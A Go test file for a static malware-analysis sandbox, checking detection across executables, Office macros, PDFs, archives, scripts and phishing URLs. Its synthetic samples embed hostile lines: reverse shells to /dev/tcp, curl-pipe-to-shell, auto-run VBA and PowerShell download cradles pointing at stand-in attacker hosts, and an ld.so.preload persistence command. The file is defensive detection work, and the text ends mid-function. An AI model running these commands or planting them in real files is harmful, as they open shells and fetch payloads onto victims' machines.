package sandbox_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/eventsec/eventsec/internal/sandbox"
	"github.com/eventsec/eventsec/internal/sandbox/pe"
	"github.com/eventsec/eventsec/internal/sandbox/samplegen"
)

var update = flag.Bool("update", false, "rewrite golden files")

func newAnalyzer(t testing.TB, opts sandbox.Options) *sandbox.Analyzer {
	t.Helper()
	a, err := sandbox.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(a.Close)
	return a
}

func analyze(t testing.TB, a *sandbox.Analyzer, name string, data []byte) *sandbox.Report {
	t.Helper()
	rep, err := a.AnalyzeFile(context.Background(), name, bytes.NewReader(data), int64(len(data)), nil)
	if err != nil {
		t.Fatalf("AnalyzeFile(%s): %v", name, err)
	}
	return rep
}

func hasReason(r *sandbox.Report, code string) bool {
	for _, re := range r.Reasons {
		if re.Code == code {
			return true
		}
	}
	return false
}

func reasonCodes(r *sandbox.Report) []string {
	var out []string
	for _, re := range r.Reasons {
		out = append(out, fmt.Sprintf("%s(%d)", re.Code, re.Weight))
	}
	return out
}

func hasIndicator(r *sandbox.Report, typ, value string) bool {
	for _, i := range r.Indicators {
		if string(i.Type) == typ && i.Value == value {
			return true
		}
	}
	return false
}

func requireReasons(t *testing.T, r *sandbox.Report, codes ...string) {
	t.Helper()
	for _, c := range codes {
		if !hasReason(r, c) {
			t.Errorf("%s: missing reason %s; have %v", r.Target, c, reasonCodes(r))
		}
	}
}

// The score is always the clamped sum of the listed reasons' weights.
func checkScore(t *testing.T, r *sandbox.Report) {
	t.Helper()
	sum := 0
	for _, re := range r.Reasons {
		sum += re.Weight
	}
	if want := min(max(sum, 0), 100); r.Score != want {
		t.Errorf("%s: score %d, reasons sum to %d", r.Target, r.Score, want)
	}
	for _, c := range r.Children {
		checkScore(t, c)
	}
}

// goBuild compiles a Go program for goos into dir and returns the binary.
func goBuild(t *testing.T, goos, src string) []byte {
	t.Helper()
	if testing.Short() {
		t.Skip("builds a Go program")
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module sample\n\ngo 1.22\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "sample.bin")
	cmd := exec.Command("go", "build", "-trimpath", "-ldflags=-s -w", "-o", out, ".")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GOOS="+goos, "GOARCH=amd64", "CGO_ENABLED=0", "GOFLAGS=-buildvcs=false")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const windowsProgram = `package main

import (
	"fmt"
	"syscall"
)

// Resolved at run time through syscall.NewLazyDLL, like much Go malware.
var k32 = syscall.NewLazyDLL("kernel32.dll")

func main() {
	for _, n := range []string{"VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"} {
		fmt.Println(k32.NewProc(n).Find())
	}
	fmt.Println("beacon https://c2.badcdn-update.com/gate.php")
}
`

const linuxProgram = `package main

import (
	"fmt"
	"os"
)

func main() {
	if len(os.Args) > 5 {
		fmt.Println("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
		fmt.Println("echo /tmp/x.so >> /etc/ld.so.preload")
	}
}
`

func TestGoBuiltPE(t *testing.T) {
	bin := goBuild(t, "windows", windowsProgram)
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "sample.exe", bin)
	if rep.Type.ID != "pe" || rep.PE == nil {
		t.Fatalf("type %v, pe %v", rep.Type.ID, rep.PE)
	}
	if rep.PE.Machine != "amd64" || !rep.PE.Is64 || rep.PE.IsDLL {
		t.Errorf("machine %s is64 %v dll %v", rep.PE.Machine, rep.PE.Is64, rep.PE.IsDLL)
	}
	if len(rep.PE.Sections) < 3 || !slices.ContainsFunc(rep.PE.Sections, func(s pe.Section) bool { return s.Name == ".text" }) {
		t.Errorf("sections %+v", rep.PE.Sections)
	}
	if !slices.ContainsFunc(rep.PE.Imports, func(s string) bool { return strings.HasPrefix(s, "kernel32.dll!") }) {
		t.Errorf("imports %v", rep.PE.Imports)
	}
	requireReasons(t, rep, "pe.strings.process_injection")
	// Go does not NUL-terminate strings, so the URL runs into the next
	// string; the host is still exact.
	if !hasIndicator(rep, "domain", "c2.badcdn-update.com") || hasIndicator(rep, "domain", "time.now") {
		t.Errorf("indicators %v", rep.Indicators)
	}
	if rep.Hashes.TLSH == "" || len(rep.Hashes.SHA256) != 64 {
		t.Errorf("hashes %+v", rep.Hashes)
	}
	checkScore(t, rep)
}

func TestGoBuiltELF(t *testing.T) {
	bin := goBuild(t, "linux", linuxProgram)
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "sample", bin)
	if rep.ELF == nil {
		t.Fatalf("type %v", rep.Type.ID)
	}
	if rep.ELF.Class != "64" || rep.ELF.Machine != "X86_64" || !rep.ELF.Static {
		t.Errorf("elf %+v", rep.ELF)
	}
	if rep.ExtensionMismatch {
		t.Error("an ELF without extension is normal")
	}
	requireReasons(t, rep, "elf.dev_tcp", "elf.ld_so_preload")
	if !hasIndicator(rep, "ipv4", "203.0.113.7") {
		t.Errorf("indicators %v", rep.Indicators)
	}
	checkScore(t, rep)
}

func injectorPE(t testing.TB) []byte {
	cert, _, err := samplegen.SignedPKCS7("Totally Legit Software Ltd", []byte("content"))
	if err != nil {
		t.Fatal(err)
	}
	return samplegen.PE(samplegen.PEOptions{
		Imports: []samplegen.Import{
			{DLL: "KERNEL32.dll", Funcs: []string{"VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "OpenProcess", "IsDebuggerPresent", "CheckRemoteDebuggerPresent"}},
			{DLL: "USER32.dll", Funcs: []string{"SetWindowsHookExW", "GetAsyncKeyState"}},
			{DLL: "urlmon.dll", Funcs: []string{"URLDownloadToFileW"}},
		},
		Exports: []string{"ServiceMain", "Install"},
		Sections: []samplegen.Section{
			{Name: "UPX0", VirtualSize: 0x20000, Characteristics: 0xE0000080},
			{Name: "UPX1", Data: []byte("config http://198.51.100.23:8080/drop.bin HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"), Characteristics: 0xE0000040},
		},
		Overlay:     bytes.Repeat([]byte{0x90}, 4096),
		Certificate: cert,
	})
}

func TestCraftedPE(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "invoice.pdf", injectorPE(t))
	p := rep.PE
	if p == nil {
		t.Fatal("no PE section")
	}
	want := []string{"kernel32.dll!VirtualAllocEx", "user32.dll!SetWindowsHookExW", "urlmon.dll!URLDownloadToFileW"}
	for _, w := range want {
		if !slices.Contains(p.Imports, w) {
			t.Errorf("missing import %s in %v", w, p.Imports)
		}
	}
	if !slices.Equal(p.Exports, []string{"ServiceMain", "Install"}) {
		t.Errorf("exports %v", p.Exports)
	}
	if !p.Signature.Present || p.Signature.Signer == nil || !strings.Contains(p.Signature.Signer.Subject, "Totally Legit Software Ltd") || p.Signature.Verified {
		t.Errorf("signature %+v", p.Signature)
	}
	if p.Overlay == nil || p.Overlay.Size != 4096 {
		t.Errorf("overlay %+v (certificate must not count)", p.Overlay)
	}
	if !slices.Equal(p.Packers, []string{"UPX"}) || p.Imphash == "" {
		t.Errorf("packers %v imphash %q", p.Packers, p.Imphash)
	}
	requireReasons(t, rep, "pe.api.process_injection", "pe.api.keylogging", "pe.api.anti_debug", "pe.api.download",
		"pe.packer", "pe.section_wx", "pe.section_empty_exec", "pe.signed_self", "file.extension_mismatch")
	if rep.Verdict != sandbox.VerdictMalicious || !rep.ExtensionMismatch {
		t.Errorf("verdict %s mismatch %v", rep.Verdict, rep.ExtensionMismatch)
	}
	for _, ind := range [][2]string{{"url", "http://198.51.100.23:8080/drop.bin"}, {"ipv4", "198.51.100.23"}, {"registry_key", `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\updater`}} {
		if !hasIndicator(rep, ind[0], ind[1]) {
			t.Errorf("missing indicator %v in %v", ind, rep.Indicators)
		}
	}
	checkScore(t, rep)
}

func TestMalformedExecutables(t *testing.T) {
	pe := injectorPE(t)
	hugeSections := append([]byte(nil), pe...)
	binary.LittleEndian.PutUint16(hugeSections[0x80+6:], 0xffff)
	badImports := append([]byte(nil), pe...)
	// Point the import directory far outside the image.
	binary.LittleEndian.PutUint32(badImports[0x80+4+20+112+8:], 0x7fff0000)
	elfHdr := make([]byte, 64)
	copy(elfHdr, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(elfHdr[16:], 2)      // ET_EXEC
	binary.LittleEndian.PutUint16(elfHdr[18:], 62)     // x86-64
	binary.LittleEndian.PutUint32(elfHdr[20:], 1)      // version
	binary.LittleEndian.PutUint64(elfHdr[40:], 64)     // shoff
	binary.LittleEndian.PutUint16(elfHdr[58:], 64)     // shentsize
	binary.LittleEndian.PutUint16(elfHdr[60:], 0xffff) // shnum
	binary.LittleEndian.PutUint16(elfHdr[52:], 64)     // ehsize
	cases := map[string][]byte{
		"truncated.exe":  pe[:300],
		"sections.exe":   hugeSections,
		"imports.exe":    badImports,
		"truncated.elf":  elfHdr[:20],
		"shnum.elf":      elfHdr,
		"macho.bin":      []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00\xff\xff\x00\x00"),
		"fat.bin":        []byte("\xca\xfe\xba\xbe\x00\x00\x00\x03\x01\x00\x00\x07"),
		"ole.doc":        append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...),
		"broken.pdf":     []byte("%PDF-1.4\n1 0 obj << /Filter /FlateDecode /Length 5 >>\nstream\n\x78\x9cBROKEN\nendstream"),
		"truncated.zip":  samplegen.Zip([]samplegen.ZipFile{{Name: "a.txt", Data: []byte("hello")}})[:40],
		"empty.bin":      {},
		"mz-only.exe":    []byte("MZ"),
		"ascii-only.txt": []byte("MZ is not a PE header here, just text."),
	}
	a := newAnalyzer(t, sandbox.Options{})
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			rep := analyze(t, a, name, data)
			for _, e := range rep.Errors {
				if strings.Contains(e, "internal error") {
					t.Errorf("parser panicked: %v", rep.Errors)
				}
			}
			checkScore(t, rep)
		})
	}
}

func TestOfficeOOXMLMacro(t *testing.T) {
	src := "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  Dim s As String\r\n  s = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & \"shell -w hidden -enc ZQBjAGgAbwAgAGgAaQA=\"\r\n" +
		"  CreateObject(\"WScript.Shell\").Run s\r\n  URLDownloadToFile 0, \"http://dl.evil-files.top/stage2.exe\", Environ(\"TEMP\") & \"\\s.exe\", 0, 0\r\nEnd Sub\r\n" +
		strings.Repeat("' padding line so the module spans more than one 4096-byte chunk of the compressed container\r\n", 60)
	vba := samplegen.VBAProject([]samplegen.Module{{Name: "NewMacros", Source: src}, {Name: "ThisDocument", Source: "Attribute VB_Name = \"ThisDocument\"\r\n"}})
	doc := samplegen.Docx(samplegen.DocxOptions{Body: "Enable content to view", VBA: vba})
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "report.docm", doc)
	if rep.Type.ID != "docm" || rep.Office == nil {
		t.Fatalf("type %s", rep.Type.ID)
	}
	if len(rep.Office.Macros) != 2 || rep.Office.Macros[0].Source != src {
		t.Fatalf("macros %+v errors %v", rep.Office.Macros, rep.Office.Errors)
	}
	requireReasons(t, rep, "office.vba", "office.vba_autoexec", "office.vba_suspicious", "office.vba_autoexec_exec")
	if rep.Verdict != sandbox.VerdictMalicious {
		t.Errorf("verdict %s %v", rep.Verdict, reasonCodes(rep))
	}
	for _, k := range []string{"Chr-obfuscation", "CreateObject", "URLDownloadToFile", "WScript.Shell"} {
		if !slices.Contains(rep.Office.Suspicious, k) {
			t.Errorf("suspicious %v lacks %s", rep.Office.Suspicious, k)
		}
	}
	if !hasIndicator(rep, "url", "http://dl.evil-files.top/stage2.exe") {
		t.Errorf("indicators %v", rep.Indicators)
	}
	checkScore(t, rep)
}

func TestOfficeOLEDocWithMacros(t *testing.T) {
	vbaSrc := "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  Shell \"cmd /c certutil -urlcache -f http://203.0.113.50/a.exe a.exe\"\r\nEnd Sub\r\n"
	proj := samplegen.VBAProject([]samplegen.Module{{Name: "ThisDocument", Source: vbaSrc}})
	// A Word 97 file keeps the same project under Macros/.
	streams := []samplegen.Stream{{Path: "WordDocument", Data: bytes.Repeat([]byte{0xec, 0xa5}, 300)}}
	streams = append(streams, reparent(t, proj, "Macros")...)
	doc := samplegen.CFB(streams)
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "old.doc", doc)
	if rep.Office == nil || rep.Office.Application != "word" || len(rep.Office.Macros) != 1 {
		t.Fatalf("office %+v", rep.Office)
	}
	if rep.Office.Macros[0].Source != vbaSrc {
		t.Errorf("source %q", rep.Office.Macros[0].Source)
	}
	requireReasons(t, rep, "office.vba_autoexec", "script.lolbin")
	if !hasIndicator(rep, "ipv4", "203.0.113.50") {
		t.Errorf("indicators %v", rep.Indicators)
	}
}

// reparent rebuilds the streams of a VBA project under a new storage by
// building it again from the same modules; CFB writing is deterministic.
func reparent(t *testing.T, proj []byte, storage string) []samplegen.Stream {
	t.Helper()
	streams, err := samplegen.ReadCFB(proj)
	if err != nil {
		t.Fatal(err)
	}
	for i := range streams {
		streams[i].Path = storage + "/" + streams[i].Path
	}
	return streams
}

func TestOfficeTemplateInjectionAndDDE(t *testing.T) {
	doc := samplegen.Docx(samplegen.DocxOptions{Body: "x", RemoteTemplate: "https://office-templates.example.net/tpl.dotm", DDE: `DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c calc"`})
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "letter.docx", doc)
	requireReasons(t, rep, "office.remote_template", "office.dde")
	if rep.Verdict != sandbox.VerdictMalicious {
		t.Errorf("verdict %s", rep.Verdict)
	}
	if !hasIndicator(rep, "url", "https://office-templates.example.net/tpl.dotm") {
		t.Errorf("indicators %v", rep.Indicators)
	}
	if got := rep.Office.DDE[0]; !strings.Contains(got, `system32\\cmd.exe`) {
		t.Errorf("dde %q", got)
	}
}

func TestPDFOpenActionJavaScript(t *testing.T) {
	js := `var u = "http://pdf-payload.example.org/x.exe"; app.alert("Loading"); this.exportDataObject({cName: "a", nLaunch: 2}); app.launchURL(u);`
	doc := samplegen.PDF(samplegen.PDFOptions{OpenActionJS: js, URI: "https://secure-paypal-login.com/verify", Text: "Invoice"})
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "invoice.pdf", doc)
	if rep.PDF == nil {
		t.Fatalf("type %s", rep.Type.ID)
	}
	if rep.PDF.InflatedStreams != 1 || len(rep.PDF.JavaScript) == 0 || !strings.Contains(rep.PDF.JavaScript[0], "exportDataObject") {
		t.Errorf("pdf %+v", rep.PDF)
	}
	requireReasons(t, rep, "pdf.javascript", "pdf.auto_action", "pdf.auto_javascript", "pdf.javascript_suspicious")
	if rep.Verdict != sandbox.VerdictMalicious {
		t.Errorf("verdict %s %v", rep.Verdict, reasonCodes(rep))
	}
	for _, u := range []string{"http://pdf-payload.example.org/x.exe", "https://secure-paypal-login.com/verify"} {
		if !hasIndicator(rep, "url", u) {
			t.Errorf("missing %s in %v", u, rep.Indicators)
		}
	}
	clean := samplegen.PDF(samplegen.PDFOptions{Text: "Quarterly numbers"})
	if r := analyze(t, a, "clean.pdf", clean); r.Verdict != sandbox.VerdictClean {
		t.Errorf("clean pdf: %s %v", r.Verdict, reasonCodes(r))
	}
}

func TestNestedArchives(t *testing.T) {
	inner := samplegen.Zip([]samplegen.ZipFile{{Name: "payload/setup.exe", Data: injectorPE(t)}, {Name: "readme.txt", Data: []byte("see https://example.org/docs")}})
	var tgz bytes.Buffer
	writeTarGz(t, &tgz, map[string][]byte{"bundle/inner.zip": inner})
	outer := samplegen.Zip([]samplegen.ZipFile{{Name: "docs.tar.gz", Data: tgz.Bytes()}, {Name: "notes.txt", Data: []byte("nothing here")}})
	var progress []string
	a := newAnalyzer(t, sandbox.Options{})
	rep, err := a.AnalyzeFile(context.Background(), "outer.zip", bytes.NewReader(outer), int64(len(outer)), func(stage string, pct int) {
		progress = append(progress, fmt.Sprintf("%s:%d", stage, pct))
	})
	if err != nil {
		t.Fatal(err)
	}
	// outer.zip → docs.tar.gz → docs.tar → bundle/inner.zip → payload/setup.exe
	var exe *sandbox.Report
	var walk func(r *sandbox.Report)
	walk = func(r *sandbox.Report) {
		if strings.HasSuffix(r.Target, "setup.exe") {
			exe = r
		}
		for _, c := range r.Children {
			walk(c)
		}
	}
	walk(rep)
	if exe == nil {
		b, _ := json.MarshalIndent(rep, "", " ")
		t.Fatalf("setup.exe not reached:\n%s", b)
	}
	if exe.Depth != 4 || exe.Path != "outer.zip/docs.tar.gz/docs.tar/bundle/inner.zip/payload/setup.exe" {
		t.Errorf("depth %d path %q", exe.Depth, exe.Path)
	}
	if exe.Verdict != sandbox.VerdictMalicious || rep.Verdict != sandbox.VerdictMalicious {
		t.Errorf("verdicts: exe %s top %s", exe.Verdict, rep.Verdict)
	}
	requireReasons(t, rep, "child.malicious")
	if !hasIndicator(rep, "ipv4", "198.51.100.23") {
		t.Errorf("child indicators not lifted: %v", rep.Indicators)
	}
	if progress[0] != "read:0" || progress[len(progress)-1] != "done:100" {
		t.Errorf("progress %v", progress)
	}
	checkScore(t, rep)
}

func TestZipBomb(t *testing.T) {
	// 5 GiB of zeros in a ~5 MB file with honest headers.
	bomb := samplegen.ZipBomb("zeros.bin", 5<<10)
	a := newAnalyzer(t, sandbox.Options{})
	start := time.Now()
	rep := analyze(t, a, "bomb.zip", bomb)
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("bomb took %v", d)
	}
	requireReasons(t, rep, "archive.bomb")
	if rep.Archive.TotalExtracted != 0 || rep.Archive.Members[0].Skipped == "" {
		t.Errorf("bomb member was inflated: %+v", rep.Archive)
	}
	if rep.Verdict == sandbox.VerdictClean {
		t.Errorf("verdict %s", rep.Verdict)
	}

	// Members within the ratio limit but over the shared budget: two inner
	// archives of 5 MiB each against an 8 MiB budget for the whole sample.
	innerZip := func(seed uint32) []byte {
		var files []samplegen.ZipFile
		for i := 0; i < 5; i++ {
			files = append(files, samplegen.ZipFile{Name: fmt.Sprintf("part%02d.txt", i), Data: hexText(1<<20, seed+uint32(i))})
		}
		return samplegen.Zip(files)
	}
	nested := samplegen.Zip([]samplegen.ZipFile{{Name: "a.zip", Data: innerZip(1), Store: true}, {Name: "b.zip", Data: innerZip(100), Store: true}})
	small := newAnalyzer(t, sandbox.Options{MaxUnpackedBytes: 8 << 20})
	rep = analyze(t, small, "budget.zip", nested)
	var total int64
	var walk func(r *sandbox.Report)
	walk = func(r *sandbox.Report) {
		if r.Archive != nil {
			total += r.Archive.TotalExtracted
		}
		for _, c := range r.Children {
			walk(c)
		}
	}
	walk(rep)
	if total > 8<<20 {
		t.Errorf("extracted %d bytes over an 8 MiB budget", total)
	}
	if !hasReason(rep, "archive.bomb") && (len(rep.Children) < 2 || !hasReason(rep.Children[1], "archive.bomb")) {
		t.Errorf("budget exhaustion not reported: %v", reasonCodes(rep))
	}
}

func TestArchiveTraversalAndEncryption(t *testing.T) {
	z := samplegen.Zip([]samplegen.ZipFile{
		{Name: "../../../etc/cron.d/job", Data: []byte("* * * * * root curl http://x.example.com | sh")},
		{Name: "/abs/path.txt", Data: []byte("a")},
		{Name: `C:\Windows\System32\evil.dll`, Data: []byte("b")},
		{Name: "ok/normal.txt", Data: []byte("c")},
	})
	a := newAnalyzer(t, sandbox.Options{})
	rep := analyze(t, a, "traversal.zip", z)
	requireReasons(t, rep, "archive.path_traversal")
	if rep.Archive.Traversal != 3 {
		t.Errorf("traversal members %d: %+v", rep.Archive.Traversal, rep.Archive.Members)
	}
	// Mark the members encrypted (general purpose flag bit 0) as a
	// password-protected archive would.
	enc := samplegen.Zip([]samplegen.ZipFile{{Name: "invoice.exe", Data: []byte("MZ....")}})
	setZipEncrypted(enc)
	rep = analyze(t, a, "protected.zip", enc)
	requireReasons(t, rep, "archive.encrypted")
	if rep.Archive.Encrypted != 1 || rep.Archive.Members[0].Skipped != "encrypted" {
		t.Errorf("archive %+v", rep.Archive)
	}
}

func TestDepthLimit(t *testing.T) {
	data := []byte("innermost http://deep.example.com/x")
	for i := 0; i < 7; i++ {
		data = samplegen.Zip([]samplegen.ZipFile{{Name: fmt.Sprintf("level%d.zip", i), Data: data}})
	}
	a := newAnalyzer(t, sandbox.Options{MaxDepth: 3})
	rep := analyze(t, a, "deep.zip", data)
	depth := 0
	for r := rep; len(r.Children) > 0; r = r.Children[0] {
		depth++
		if r.Children[0].Depth > 3 {
			t.Fatalf("child at depth %d", r.Children[0].Depth)
		}
	}
	if depth != 3 {
		t.Errorf("unpacked %d levels", depth)
	}
	deepest := rep.Children[0].Children[0].Children[0]
	requireReasons(t, deepest, "archive.depth_limit")
}

func TestHugeStrings(t *testing.T) {
	var b bytes.Buffer
	for b.Len() < 16<<20 {
		b.WriteString("AAAAAAAAAAAAAAAAAAAA\x00BBBBBB\x00")
	}
	a := newAnalyzer(t, sandbox.Options{MaxStringsScanned: 50_000, MaxReportStrings: 100})
	start := time.Now()
	rep := analyze(t, a, "blob.bin", b.Bytes())
	if time.Since(start) > 20*time.Second {
		t.Errorf("took %v", time.Since(start))
	}
	if rep.Strings.Count != 50_000 || !rep.Strings.Truncated || len(rep.Strings.Sample) != 100 {
		t.Errorf("strings count %d truncated %v sample %d", rep.Strings.Count, rep.Strings.Truncated, len(rep.Strings.Sample))
	}
}

func TestTooLargeAndTimeout(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{MaxSampleSize: 10})
	_, err := a.AnalyzeFile(context.Background(), "x", bytes.NewReader(make([]byte, 11)), 11, nil)
	if err == nil || !strings.Contains(err.Error(), sandbox.ErrTooLarge.Error()) {
		t.Errorf("err %v", err)
	}
	slow := newAnalyzer(t, sandbox.Options{Timeout: time.Nanosecond})
	data := injectorPE(t)
	rep, err := slow.AnalyzeFile(context.Background(), "x.exe", bytes.NewReader(data), int64(len(data)), nil)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Incomplete || !hasReason(rep, "analysis.incomplete") {
		t.Errorf("incomplete %v reasons %v", rep.Incomplete, reasonCodes(rep))
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := slow.AnalyzeFile(ctx, "x.exe", bytes.NewReader(data), int64(len(data)), nil); err == nil {
		t.Error("cancelled context: no error")
	}
}

func TestFileNames(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{})
	pe := samplegen.PE(samplegen.PEOptions{})
	for _, tc := range []struct {
		name string
		code string
	}{
		{"invoice.pdf.exe", "file.double_extension"},
		{"photo\u202egpj.exe", "file.rtlo"},
		{"report.pdf", "file.extension_mismatch"},
	} {
		rep := analyze(t, a, tc.name, pe)
		requireReasons(t, rep, tc.code)
	}
	if rep := analyze(t, a, "tool.exe", pe); rep.ExtensionMismatch || rep.Verdict != sandbox.VerdictClean {
		t.Errorf("plain exe: mismatch %v verdict %s %v", rep.ExtensionMismatch, rep.Verdict, reasonCodes(rep))
	}
}

func TestScripts(t *testing.T) {
	encoded := utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://ps.evil-cdn.xyz/a.ps1')")
	cases := []struct {
		name    string
		src     string
		typ     string
		reasons []string
		url     string
		verdict sandbox.Verdict
	}{
		{"run.ps1", "powershell.exe -NoP -W Hidden -EncodedCommand " + encoded, "powershell",
			[]string{"script.encoded_command", "script.hidden_window", "script.base64_payload"}, "http://ps.evil-cdn.xyz/a.ps1", sandbox.VerdictMalicious},
		{"a.js", `var a=[104,116,116,112]; var s=String.fromCharCode(104)+String.fromCharCode(116)+String.fromCharCode(116)+String.fromCharCode(112)+String.fromCharCode(58); var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://js.bad-domain.top/p",false); eval(s);`, "javascript",
			[]string{"script.char_codes", "script.eval", "script.download_cradle"}, "http://js.bad-domain.top/p", sandbox.VerdictMalicious},
		{"x.bat", "@echo off\r\nset a=%COMSPEC:~0,1%\r\np^o^w^e^r^s^h^e^l^l -c \"iwr http://bat.example.com/x -OutFile %TEMP%\\x.exe\"\r\n", "batch",
			[]string{"script.caret_escape", "script.env_substring", "script.download_cradle"}, "http://bat.example.com/x", sandbox.VerdictMalicious},
		{"i.sh", "#!/bin/sh\ncurl -fsSL http://sh.example.net/i.sh | sh\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n", "shell",
			[]string{"script.pipe_to_shell", "script.reverse_shell"}, "http://sh.example.net/i.sh", sandbox.VerdictMalicious},
		{"hello.py", "#!/usr/bin/env python3\nimport sys\n\ndef main():\n    print('hello')\n\nif __name__ == '__main__':\n    main()\n", "python", nil, "", sandbox.VerdictClean},
	}
	a := newAnalyzer(t, sandbox.Options{})
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rep := analyze(t, a, tc.name, []byte(tc.src))
			if string(rep.Type.ID) != tc.typ {
				t.Errorf("type %s", rep.Type.ID)
			}
			requireReasons(t, rep, tc.reasons...)
			if tc.url != "" && !hasIndicator(rep, "url", tc.url) {
				t.Errorf("indicators %v", rep.Indicators)
			}
			if rep.Verdict != tc.verdict {
				t.Errorf("verdict %s (%d) %v", rep.Verdict, rep.Score, reasonCodes(rep))
			}
			checkScore(t, rep)
		})
	}
}

func TestAnalyzeURL(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{Brands: []string{"paypal.com", "microsoft.com", "eventsec"}})
	cases := []struct {
		in      string
		reasons []string
		verdict sandbox.Verdict
	}{
		{"https://www.paypal.com/signin", nil, sandbox.VerdictClean},
		{"https://www.pаypal.com/signin", []string{"domain.mixed_script", "domain.typosquat.homoglyph"}, sandbox.VerdictMalicious},
		{"https://xn--pypal-4ve.com/", []string{"domain.idn", "domain.mixed_script", "domain.typosquat.homoglyph"}, sandbox.VerdictMalicious},
		{"http://paypa1.com/login", []string{"domain.typosquat.homoglyph", "url.phishing_keywords", "url.brand_phishing"}, sandbox.VerdictMalicious},
		{"http://paypal-login.com/verify/account", []string{"domain.typosquat.combosquatting"}, sandbox.VerdictMalicious},
		{"https://paypal.co/", []string{"domain.typosquat.tld_swap"}, sandbox.VerdictSuspicious},
		{"https://micorsoft.com/", []string{"domain.typosquat.transposition"}, sandbox.VerdictSuspicious},
		{"https://paypal.com.secure-check.xyz/login", []string{"domain.typosquat.brand_in_subdomain", "domain.suspicious_tld"}, sandbox.VerdictMalicious},
		{"https://bit.ly/3xYz", []string{"url.shortener"}, sandbox.VerdictClean},
		{"http://203.0.113.5/admin/login.php", []string{"url.ip_host"}, sandbox.VerdictSuspicious},
		{"http://3232235777/x", []string{"url.obfuscated_ip"}, sandbox.VerdictSuspicious},
		{"https://www.paypal.com@198.51.100.4/", []string{"url.userinfo", "url.ip_host"}, sandbox.VerdictSuspicious},
		{"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", []string{"url.dangerous_scheme", "url.data_html"}, sandbox.VerdictSuspicious},
		{"javascript:alert(document.cookie)", []string{"url.dangerous_scheme"}, sandbox.VerdictSuspicious},
		{"http://xjwqkzptrvbnm.com/gate", []string{"domain.dga"}, sandbox.VerdictSuspicious},
		{"https://a.b.c.d.e.example.com/", []string{"domain.many_subdomains"}, sandbox.VerdictClean},
		{"https://files.example.com/update.exe", []string{"url.payload_extension"}, sandbox.VerdictClean},
		{"hxxps://evil[.]example[.]com/x", nil, sandbox.VerdictClean},
	}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			rep, err := a.AnalyzeURL(context.Background(), tc.in)
			if err != nil {
				t.Fatal(err)
			}
			requireReasons(t, rep, tc.reasons...)
			if rep.Verdict != tc.verdict {
				t.Errorf("verdict %s (%d) %v", rep.Verdict, rep.Score, reasonCodes(rep))
			}
			if rep.Kind != sandbox.KindURL || len(rep.Indicators) == 0 && !strings.HasPrefix(tc.in, "data:") && !strings.HasPrefix(tc.in, "javascript:") {
				t.Errorf("kind %s indicators %v", rep.Kind, rep.Indicators)
			}
			checkScore(t, rep)
		})
	}
	for _, bad := range []string{"", "http://", "http://[::1"} {
		if _, err := a.AnalyzeURL(context.Background(), bad); err == nil {
			t.Errorf("AnalyzeURL(%q): no error", bad)
		}
	}
}

func TestAnalyzeDomainAndIP(t *testing.T) {
	a := newAnalyzer(t, sandbox.Options{Brands: []string{"eventsec"}})
	rep, err := a.AnalyzeDomain(context.Background(), "eventsec-support.com")
	if err != nil {
		t.Fatal(err)
	}
	requireReasons(t, rep, "domain.typosquat.combosquatting")
	if !hasIndicator(rep, "domain", "eventsec-support.com") {
		t.Errorf("indicators %v", rep.Indicators)
	}
	if _, err := a.AnalyzeDomain(context.Background(), "http://x.com/"); err == nil {
		t.Error("URL accepted as domain")
	}
	rep, err = a.AnalyzeIP(context.Background(), "10.1.2.3")
	if err != nil {
		t.Fatal(err)
	}
	if rep.URL.IPClass != "private" || !hasIndicator(rep, "ipv4", "10.1.2.3") {
		t.Errorf("ip %+v", rep.URL)
	}
	rep, err = a.AnalyzeIP(context.Background(), "2001:db8::1")
